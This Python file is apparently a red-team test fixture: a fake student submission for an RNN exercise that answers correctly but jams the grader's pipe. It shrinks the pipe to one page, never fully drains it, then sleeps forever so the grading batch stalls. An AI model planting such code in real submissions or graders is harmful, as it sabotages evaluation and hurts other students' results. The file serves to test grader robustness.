"""A submission (exercise 1.1) that jams the grader's pipe: it shrinks it to one page and never frees it.

Found by a red-team review; tests/test_grading_attacks.py grades it beside classmates. It answers
honestly, so only the batch finishing and the classmates' rows matter."""

import os, sys, pickle, struct, fcntl, termios, array, time
import numpy as np
_R, _W = int(sys.argv[1]), int(sys.argv[2])

def _avail():
    buf = array.array('i', [0])
    fcntl.ioctl(_R, termios.FIONREAD, buf)
    return buf[0]

def _readn(n):
    out = b''
    while len(out) < n:
        chunk = os.read(_R, n - len(out))
        if not chunk:
            raise EOFError
        out += chunk
    return out

def _send(value):
    data = pickle.dumps(value, protocol=5)
    os.write(_W, struct.pack('!Q', len(data)) + data)

def _linear(x, W_x, W_h, b, W_y, b_y):
    h = np.zeros((x.shape[0], W_h.shape[0])); outs = []
    for t in range(x.shape[1]):
        h = x[:, t, :] @ W_x + h @ W_h + b
        outs.append(h @ W_y + b_y)
    return np.stack(outs, axis=1)

_MINE = {'simple_rnn_param_count': lambda f, u: u * (f + u + 1), 'linear_rnn_outputs': _linear}

def _serve_lagging():
    """Answer the grader, always leaving the last byte ('.') of its message unread: the one-page pipe's
    page is never released, so each message the grader writes lands further along it, until it cannot."""
    fcntl.fcntl(_R, 1031, 4096)          # F_SETPIPE_SZ: one page
    while True:
        while _avail() < 9:              # old '.' + the next header are both in the page
            time.sleep(0.01)
        _readn(1)                        # the previous message's '.'
        while _avail() < 9:              # the header and the start of the data: the page stays in use
            time.sleep(0.01)
        (size,) = struct.unpack('!Q', _readn(8))
        message = pickle.loads(_readn(size - 1) + b'.')
        if message[0] == 'has':
            _send(('has', message[1] in _MINE))
        else:
            _, name, args, kwargs = message
            _send(('return', _MINE[name](*args, **kwargs)))

_first = True
def simple_rnn_param_count(features, units):
    global _first
    if not _first:
        return units * (features + units + 1)
    _first = False
    _send(('return', units * (features + units + 1)))   # this call's own reply, then we serve from here
    # the grader's next message follows; give the main loop's fully-read pipe a lagging byte first:
    # wait for the next message and read it all but its last byte
    while _avail() < 9:
        time.sleep(0.01)
    (size,) = struct.unpack('!Q', _readn(8))
    message = pickle.loads(_readn(size - 1) + b'.')
    fcntl.fcntl(_R, 1031, 4096)
    _, name, args, kwargs = message
    _send(('return', _MINE[name](*args, **kwargs)))
    try:
        _serve_lagging()
    except Exception:
        pass
    while True:
        time.sleep(3600)
